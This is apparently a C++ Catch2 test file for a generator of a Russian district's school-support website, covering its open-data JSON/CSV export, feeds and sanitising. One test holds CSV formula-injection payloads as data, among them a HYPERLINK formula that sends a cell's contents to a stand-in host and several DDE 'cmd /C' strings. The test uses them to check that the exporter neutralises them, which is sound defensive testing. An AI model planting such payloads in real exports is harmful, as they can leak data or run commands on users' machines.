#include "derive/derive.hpp"
#include "view/view.hpp"

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <algorithm>

using namespace shnor;
using model::Date;
using nlohmann::json;

namespace {

model::RoadmapItem item(const std::string& n, const std::string& title, Date due, model::Status status,
                        bool status_given = true) {
    model::RoadmapItem item;
    item.n = n;
    item.title = title;
    item.when = "до " + due.iso();
    item.due = due;
    item.status = status;
    item.status_given = status_given;
    return item;
}

model::NewsItem news(const std::string& id, const std::string& title, Date date, const std::string& body) {
    model::NewsItem item;
    item.id = id;
    item.title = title;
    item.date = date;
    item.body = body;
    return item;
}

// A small district with one school, derived against 2024-11-01.
model::Site small_site() {
    model::Site site;
    site.content_dir = "/content";
    site.config.title = "Сопровождение ШНОР";
    site.config.base_url = "https://edu.example/shnor/";
    site.config.district.name = "Кромский район";
    site.config.district.authority = "Отдел образования & молодёжной политики";
    site.config.coordinator.name = "Великасова Елена Николаевна";
    site.config.coordinator.phone = "+7 (48643) 2-13-74";

    model::Roadmap plan;
    plan.id = "plan-2024";
    plan.title = "Дорожная карта на 2024 год";
    model::RoadmapSection section;
    section.n = "1";
    section.title = "Организационные меры";
    auto first = item("1", "План \"А\", этап 1", {2024, 3, 31}, model::Status::done);
    first.responsible = {"Отдел образования", "Руководители школ"};
    first.evidence = {"prikaz-12-2024"};
    section.items.push_back(first);
    auto second = item("2", "Мониторинг", {2024, 5, 1}, model::Status::planned, false);
    second.schools = {"kutafinskaya"};
    section.items.push_back(second);
    plan.sections.push_back(section);
    site.district.roadmaps.push_back(plan);

    model::Program program;
    program.id = "soprovozhdenie";
    program.title = "Программа сопровождения";
    program.goal = "Повышение качества образования";
    program.tasks = {{"Анализ", {"Сбор данных"}}};
    program.period = model::DateRange{{2024, 1, 1}, {2025, 12, 31}};
    site.district.programs.push_back(program);

    model::Document order;
    order.id = "prikaz-12-2024";
    order.kind = "order";
    order.title = "О назначении координаторов";
    order.date = Date{2024, 3, 5};
    order.file = "files/prikaz-12.pdf";
    order.site_path = "files/prikaz-12.pdf";
    order.file_path = "/content/files/prikaz-12.pdf";
    order.file_size = 1234;
    order.file_type = "PDF";
    site.district.documents.push_back(order);
    model::Document external;
    external.id = "prikaz-116";
    external.title = "Приказ Департамента";
    external.url = "https://region.example/116";
    site.district.documents.push_back(external);

    auto seminar = news("2024-10-01-seminar", "Семинар R&D <итоги>", {2024, 10, 1}, "Прошёл **семинар** & обсуждение.");
    seminar.photo_site_paths = {"news/seminar.jpg"};
    site.district.news.push_back(seminar);

    model::Indicator share;
    share.id = "shnor-share";
    share.title = "Доля ШНОР";
    share.unit = "%";
    share.better = "lower";
    share.baseline = model::IndicatorPoint{2024, 21, "", false};
    share.target = model::IndicatorPoint{2026, 7.1, "", false};
    share.values = {model::IndicatorPoint{2025, 14.3, "", false}};
    site.indicators.push_back(share);

    model::ResultRow region_row;
    region_row.exam = "ОГЭ";
    region_row.subject = "Математика";
    region_row.year = 2023;
    region_row.mean = 3.6;
    region_row.scope = "region";
    site.district_results.push_back(region_row);

    model::School school;
    school.slug = "kutafinskaya";
    school.name = "МБОУ КР ОО «Кутафинская средняя общеобразовательная школа»";
    school.short_name = "Кутафинская СОШ";
    school.head.name = "Иванова И. И.";
    school.coordinator.name = "Петрова П. П.";
    school.categories.push_back({"shnor", 2024, "prikaz-116", {"Низкие результаты ОГЭ", "Дефицит кадров"}});
    model::Roadmap school_plan;
    school_plan.id = "plan";
    school_plan.title = "План школы";
    school_plan.flat = true;
    model::RoadmapSection flat;
    flat.items.push_back(item("", "Диагностика", {2024, 12, 1}, model::Status::in_progress));
    school_plan.sections.push_back(flat);
    school.own.roadmaps.push_back(school_plan);
    school.own.news.push_back(news("2024-10-05-den-uchitelya", "День учителя", {2024, 10, 5}, ""));
    model::ResultRow row;
    row.exam = "ОГЭ";
    row.subject = "Математика";
    row.grade = 9;
    row.year = 2023;
    row.participants = 14;
    row.mean = 3.1;
    row.scale = 5;
    row.fail_share = 28.6;
    school.results.push_back(row);
    model::Document school_document;
    school_document.id = "antirisk";
    school_document.site_path = "schools/kutafinskaya/files/antirisk.docx";
    school_document.file_path = "/content/schools/kutafinskaya/files/antirisk.docx";
    school.own.documents.push_back(school_document);
    site.schools.push_back(school);

    derive::derive_site(site, Date{2024, 11, 1});
    return site;
}

const view::BuildContext kContext{Date{2024, 11, 1}, "https://edu.example/shnor/"};

std::string file_named(const std::vector<view::TextFile>& files, const std::string& path) {
    for (const auto& file : files)
        if (file.path == path) return file.bytes;
    FAIL("no file " << path);
    return {};
}

json json_named(const std::vector<view::TextFile>& files, const std::string& path) {
    return json::parse(file_named(files, path));
}

bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

const std::string kBom = "\xEF\xBB\xBF";

}  // namespace

TEST_CASE("open_data writes every JSON and CSV file", "[open_data]") {
    auto files = view::open_data(small_site(), kContext);
    std::vector<std::string> paths;
    for (const auto& file : files) paths.push_back(file.path);
    std::sort(paths.begin(), paths.end());
    CHECK(paths == std::vector<std::string>{"data/documents.csv", "data/documents.json", "data/indicators.csv",
                                            "data/indicators.json", "data/results.csv", "data/results.json",
                                            "data/roadmaps.csv", "data/roadmaps.json", "data/schools.csv",
                                            "data/schools.json", "data/site.json"});
}

TEST_CASE("open_data: schools.json has categories, people and progress", "[open_data]") {
    json schools = json_named(view::open_data(small_site(), kContext), "data/schools.json");
    CHECK_FALSE(schools.contains("build_date"));  // a rebuild on a later day gives the same bytes
    REQUIRE(schools["schools"].size() == 1);
    const json& school = schools["schools"][0];
    CHECK(school["slug"] == "kutafinskaya");
    CHECK(school["short_name"] == "Кутафинская СОШ");
    CHECK(school["url"] == "schools/kutafinskaya/");
    CHECK(school["categories"][0]["type"] == "shnor");
    CHECK(school["categories"][0]["year"] == 2024);
    CHECK(school["categories"][0]["reasons"][1] == "Дефицит кадров");
    CHECK(school["head"]["name"] == "Иванова И. И.");
    CHECK(school["coordinator"]["name"] == "Петрова П. П.");
    CHECK(school["students"].is_null());
    CHECK(school["counts"]["results"] == 1);
    CHECK(school["progress"]["total"] == 1);
    CHECK(school["progress"]["in_progress"] == 1);
}

TEST_CASE("open_data: roadmaps carry written and shown status", "[open_data]") {
    auto files = view::open_data(small_site(), kContext);
    json roadmaps = json_named(files, "data/roadmaps.json");
    const json& items = roadmaps["items"];
    REQUIRE(items.size() == 3);
    CHECK(items[0]["owner"] == "district");
    CHECK(items[0]["roadmap"] == "plan-2024");
    CHECK(items[0]["section_title"] == "Организационные меры");
    CHECK(items[0]["status"] == "done");
    CHECK(items[0]["shown_status"] == "done");
    CHECK(items[0]["responsible"] == json::array({"Отдел образования", "Руководители школ"}));
    CHECK(items[1]["status"].is_null());  // not written
    CHECK(items[1]["shown_status"] == "overdue");
    CHECK(items[1]["due"] == "2024-05-01");
    CHECK(items[2]["owner"] == "kutafinskaya");
    CHECK(items[2]["shown_status"] == "in_progress");
    CHECK(roadmaps["roadmaps"][0]["progress"]["overdue"] == 1);
    CHECK(roadmaps["roadmaps"][1]["url"] == "schools/kutafinskaya/roadmap/");
}

TEST_CASE("open_data: CSV has a BOM, a header and RFC 4180 quoting", "[open_data]") {
    std::string csv = file_named(view::open_data(small_site(), kContext), "data/roadmaps.csv");
    REQUIRE(csv.substr(0, 3) == kBom);
    CHECK(csv.substr(3, csv.find("\r\n") - 3) ==
          "owner,roadmap,section_n,section_title,n,title,when,start,due,derived_start,derived_due,ongoing,status,"
          "shown_status,responsible,result,report,reported,evidence,schools,example,part,level,roadmap_finished");
    CHECK(contains(csv, "\r\ndistrict,plan-2024,1,Организационные меры,1,\"План \"\"А\"\", этап 1\","));
    CHECK(contains(csv, ",done,done,\"Отдел образования; Руководители школ\","));
    CHECK(contains(csv, ",overdue,"));
}

TEST_CASE("open_data: results, indicators and documents", "[open_data]") {
    auto files = view::open_data(small_site(), kContext);
    json results = json_named(files, "data/results.json")["results"];
    REQUIRE(results.size() == 2);
    CHECK(results[0]["scope"] == "kutafinskaya");
    CHECK(results[0]["mean"] == 3.1);
    CHECK(results[1]["scope"] == "region");
    CHECK(results[1]["grade"].is_null());
    std::string results_csv = file_named(files, "data/results.csv");
    CHECK(contains(results_csv, "\r\nkutafinskaya,ОГЭ,Математика,9,2023,14,3.1,5,28.6,,false,false,"));

    json indicator = json_named(files, "data/indicators.json")["indicators"][0];
    CHECK(indicator["baseline"]["value"] == 21);
    CHECK(indicator["target"]["value"] == 7.1);
    CHECK(indicator["target_reached"] == false);

    json documents = json_named(files, "data/documents.json")["documents"];
    REQUIRE(documents.size() == 3);
    CHECK(documents[0]["href"] == "files/prikaz-12.pdf");
    CHECK(documents[0]["date"] == "2024-03-05");
    CHECK(documents[1]["href"] == "https://region.example/116");
    CHECK(documents[2]["owner"] == "kutafinskaya");
    CHECK(documents[2]["href"] == "schools/kutafinskaya/files/antirisk.docx");
}

TEST_CASE("open_data: site.json describes the district for other builds", "[open_data]") {
    json site = json_named(view::open_data(small_site(), kContext), "data/site.json");
    CHECK(site["format"] == "shnor-site");
    CHECK(site["title"] == "Сопровождение ШНОР");
    CHECK(site["base_url"] == "https://edu.example/shnor/");
    CHECK_FALSE(site.contains("build_date"));
    CHECK(site["district"]["name"] == "Кромский район");
    CHECK(site["coordinator"]["phone"] == "+7 (48643) 2-13-74");
    CHECK(site["programs"][0]["goal"] == "Повышение качества образования");
    CHECK(site["programs"][0]["tasks"][0]["actions"][0] == "Сбор данных");
    CHECK(site["programs"][0]["period"]["end"] == "2025-12-31");
    CHECK(site["roadmaps"][0]["sections"][0]["items"].size() == 2);
    REQUIRE(site["news"].size() == 2);
    CHECK(site["news"][0]["url"] == "news/2024-10-01-seminar/");
    CHECK(site["news"][1]["url"] == "schools/kutafinskaya/news/2024-10-05-den-uchitelya/");
    CHECK(site["schools"][0]["slug"] == "kutafinskaya");
}

TEST_CASE("open_data is deterministic", "[open_data]") {
    auto one = view::open_data(small_site(), kContext);
    auto two = view::open_data(small_site(), kContext);
    REQUIRE(one.size() == two.size());
    for (std::size_t i = 0; i < one.size(); ++i) CHECK(one[i].bytes == two[i].bytes);
}

TEST_CASE("feeds: sitemap, robots and an escaped Atom feed", "[feeds]") {
    auto files = view::feeds(small_site(), kContext, {"schools/", "", "404.html", "news/"});
    std::string sitemap = file_named(files, "sitemap.xml");
    // Sorted; <lastmod> from the content (the news of 2024-10-01), none for the list of schools.
    CHECK(contains(sitemap, "<loc>https://edu.example/shnor/</loc><lastmod>2024-10-01</lastmod></url>\n"
                            "  <url><loc>https://edu.example/shnor/news/</loc><lastmod>2024-10-01</lastmod></url>\n"
                            "  <url><loc>https://edu.example/shnor/schools/</loc></url>"));
    CHECK_FALSE(contains(sitemap, "404"));

    CHECK(file_named(files, "robots.txt") ==
          "User-agent: *\nAllow: /\nSitemap: https://edu.example/shnor/sitemap.xml\n");

    std::string feed = file_named(files, "news/feed.xml");
    CHECK(contains(feed, "<title>Семинар R&amp;D &lt;итоги&gt;</title>"));
    CHECK_FALSE(contains(feed, "R&D"));
    CHECK(contains(feed, "<summary>Прошёл семинар &amp; обсуждение.</summary>"));
    CHECK(contains(feed, "<name>Отдел образования &amp; молодёжной политики</name>"));
    CHECK(contains(feed, "<updated>2024-10-05T00:00:00Z</updated>\n  <author>"));
    auto school_entry = feed.find("<id>https://edu.example/shnor/schools/kutafinskaya/news/2024-10-05-den-uchitelya/</id>");
    auto district_entry = feed.find("<id>https://edu.example/shnor/news/2024-10-01-seminar/</id>");
    REQUIRE(school_entry != std::string::npos);
    REQUIRE(district_entry != std::string::npos);
    CHECK(school_entry < district_entry);  // newest first
    // Every opened element is closed: the feed has no stray '&' or '<'.
    auto count = [&feed](const std::string& part) {
        std::size_t n = 0;
        for (auto at = feed.find(part); at != std::string::npos; at = feed.find(part, at + 1)) ++n;
        return n;
    };
    CHECK(count("<entry>") == 2);
    CHECK(count("</entry>") == 2);
    CHECK(count("&") == count("&amp;") + count("&lt;") + count("&gt;") + count("&quot;") + count("&apos;"));
}

TEST_CASE("feeds: with no news the feed is dated by the build", "[feeds]") {
    model::Site site;
    site.config.title = "Т";
    std::string feed = file_named(view::feeds(site, kContext, {""}), "news/feed.xml");
    CHECK(contains(feed, "<updated>2024-11-01T00:00:00Z</updated>"));
    CHECK_FALSE(contains(feed, "<entry>"));
}

TEST_CASE("copied_files: local documents, never news photos (published re-encoded)", "[copied_files]") {
    auto files = view::copied_files(small_site());
    REQUIRE(files.size() == 2);
    CHECK(files[0].path == "files/prikaz-12.pdf");
    CHECK(files[0].source == "/content/files/prikaz-12.pdf");
    CHECK(files[1].path == "schools/kutafinskaya/files/antirisk.docx");
}

namespace {

// Keeps each file whole and the spans the writer reports in it.
class SpanCollector : public view::TextSink {
public:
    struct Span {
        std::string path, key;
        std::size_t offset, length;
    };
    void begin(const std::string& path) override { files.push_back({path, {}}); }
    void append(std::string_view bytes) override { files.back().bytes += bytes; }
    void end() override {}
    void span(const std::string& key, std::size_t offset, std::size_t length) override {
        spans.push_back({files.back().path, key, offset, length});
    }
    std::vector<view::TextFile> files;
    std::vector<Span> spans;
};

}  // namespace

TEST_CASE("open_data: each school's elements lie where their spans say, as school_open_data_spans gives them",
          "[open_data]") {
    auto site = small_site();
    model::School without_roadmaps = site.schools[0];  // a second school, with an empty span in the roadmaps
    without_roadmaps.slug = "pokrovskaya";
    without_roadmaps.own.roadmaps.clear();
    site.schools.push_back(without_roadmaps);
    derive::derive_site(site, Date{2024, 11, 1});
    SpanCollector sink;
    for (std::size_t part = 0; part < view::open_data_parts(); ++part)
        view::write_open_data_part(site, kContext, part, sink);

    std::size_t checked = 0, empty = 0;
    for (const auto& school : site.schools) {
        auto expected = view::school_open_data_spans(school);
        REQUIRE(expected.size() == 5);
        for (const auto& span : expected) {
            INFO(school.slug << " " << span.path << " " << span.key);
            auto found = std::find_if(sink.spans.begin(), sink.spans.end(),
                                      [&](const auto& s) { return s.path == span.path && s.key == span.key; });
            REQUIRE(found != sink.spans.end());
            CHECK(file_named(sink.files, span.path).substr(found->offset, found->length) == span.bytes);
            ++checked;
            empty += span.bytes.empty() ? 1 : 0;
        }
    }
    CHECK(checked == 10);
    CHECK(empty == 3);  // pokrovskaya: roadmaps.json twice, roadmaps.csv
    // The district's elements have no span: it is never patched.
    CHECK(std::none_of(sink.spans.begin(), sink.spans.end(),
                       [](const auto& s) { return s.key.find("district") != std::string::npos; }));
    // A JSON span leaves out the comma before it.
    const std::string schools = file_named(sink.files, "data/schools.json");
    for (const auto& s : sink.spans)
        if (s.path == "data/schools.json") CHECK(schools[s.offset] == '{');
}

TEST_CASE("open_data: CSV text cells that could start a formula are neutralised; numbers stay numbers",
          "[open_data]") {
    auto site = small_site();
    auto& plan_item = site.district.roadmaps[0].sections[0].items[0];
    plan_item.title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")";
    plan_item.result = "+7 (48643) 2-13-74";
    plan_item.report = "@SUM(1+1)*cmd|' /C calc'!A0";
    plan_item.responsible = {"-2+3+cmd|' /C calc'!A0"};
    site.schools[0].short_name = "\t=1+1";
    site.indicators[0].values[0].note = "=1+1";
    site.indicators[0].values[0].value = -3.5;  // a number column: negative values stay numbers
    site.district.documents[0].title = "=cmd|' /C notepad'!'A1'";
    site.schools[0].results[0].mean = -1.25;  // out of range, but a number: written as one
    derive::derive_site(site, Date{2024, 11, 1});
    auto files = view::open_data(site, kContext);

    std::string roadmaps = file_named(files, "data/roadmaps.csv");
    CHECK(contains(roadmaps, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Подробнее\"\")\","));
    CHECK(contains(roadmaps, ",\"'+7 (48643) 2-13-74\","));
    CHECK(contains(roadmaps, ",\"'@SUM(1+1)*cmd|' /C calc'!A0\","));
    CHECK(contains(roadmaps, ",\"'-2+3+cmd|' /C calc'!A0\","));
    std::string schools = file_named(files, "data/schools.csv");
    CHECK(contains(schools, ",\"'\t=1+1\","));
    std::string indicators = file_named(files, "data/indicators.csv");
    CHECK(contains(indicators, ",value,2025,-3.5,"));
    CHECK(contains(indicators, ",\"'=1+1\","));
    std::string documents = file_named(files, "data/documents.csv");
    CHECK(contains(documents, ",\"'=cmd|' /C notepad'!'A1'\","));
    std::string results = file_named(files, "data/results.csv");
    CHECK(contains(results, ",-1.25,"));
    CHECK_FALSE(contains(results, "'-1.25"));

    // No cell of any CSV starts with a formula character unless neutralised.
    for (const auto& file : files) {
        if (file.path.size() < 4 || file.path.substr(file.path.size() - 4) != ".csv") continue;
        for (std::size_t at = file.bytes.find("=", 0); at != std::string::npos; at = file.bytes.find("=", at + 1)) {
            INFO(file.path << " at " << at);
            CHECK((at == 0 || (file.bytes[at - 1] != ',' && file.bytes[at - 1] != '\n' && file.bytes[at - 1] != '"')));
        }
    }
    // The JSON keeps the text as written: only CSV is read by spreadsheets.
    CHECK(json_named(files, "data/roadmaps.json")["items"][0]["title"] == plan_item.title);
}

TEST_CASE("open_data: control characters reach neither CSV nor JSON; line breaks and tabs stay", "[open_data]") {
    auto site = small_site();
    auto& plan_item = site.district.roadmaps[0].sections[0].items[0];
    plan_item.title = std::string("Итоги\x01\x07 года\r\nвторая\tстрока\x1b[31m\x7f") + "\xC2\x85" + "конец";
    plan_item.report = std::string("\x0b\x0c=1+1");  // controls first, then a formula
    site.schools[0].name = std::string("Школа") + '\0' + "№ 1";
    site.district.news[0].body = "Текст\x08 с\x1f управляющими\x0e знаками";
    derive::derive_site(site, Date{2024, 11, 1});
    auto files = view::open_data(site, kContext);

    auto has_control = [](const std::string& text) {
        for (std::size_t i = 0; i < text.size(); ++i) {
            auto byte = static_cast<unsigned char>(text[i]);
            if ((byte < 0x20 && byte != '\n' && byte != '\t' && byte != '\r') || byte == 0x7F) return true;
            if (byte == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) < 0xA0) return true;
        }
        return false;
    };
    for (const auto& file : files) {
        INFO(file.path);
        CHECK_FALSE(has_control(file.bytes));
        // A JSON string holds no control escape but \n and \t.
        if (file.path.size() > 5 && file.path.substr(file.path.size() - 5) == ".json") {
            CHECK_FALSE(contains(file.bytes, "\\u00"));
            CHECK_FALSE(contains(file.bytes, "\\r"));
            CHECK_FALSE(contains(file.bytes, "\\b"));
            CHECK_FALSE(contains(file.bytes, "\\f"));
        }
    }
    std::string csv = file_named(files, "data/roadmaps.csv");
    CHECK(contains(csv, "\"Итоги года\nвторая\tстрока[31mконец\""));
    CHECK(contains(csv, ",\"'=1+1\","));
    // Each row still ends with CRLF, and only there: the cell's \r is gone.
    CHECK_FALSE(contains(csv, "года\r\n"));
    auto roadmaps = json_named(files, "data/roadmaps.json");
    CHECK(roadmaps["items"][0]["title"] == "Итоги года\nвторая\tстрока[31mконец");
    CHECK(json_named(files, "data/schools.json")["schools"][0]["name"] == "Школа№ 1");
    CHECK(json_named(files, "data/site.json")["news"][0]["body"] == "Текст с управляющими знаками");
    // Still deterministic.
    auto again = view::open_data(site, kContext);
    REQUIRE(again.size() == files.size());
    for (std::size_t i = 0; i < files.size(); ++i) CHECK(again[i].bytes == files[i].bytes);
}
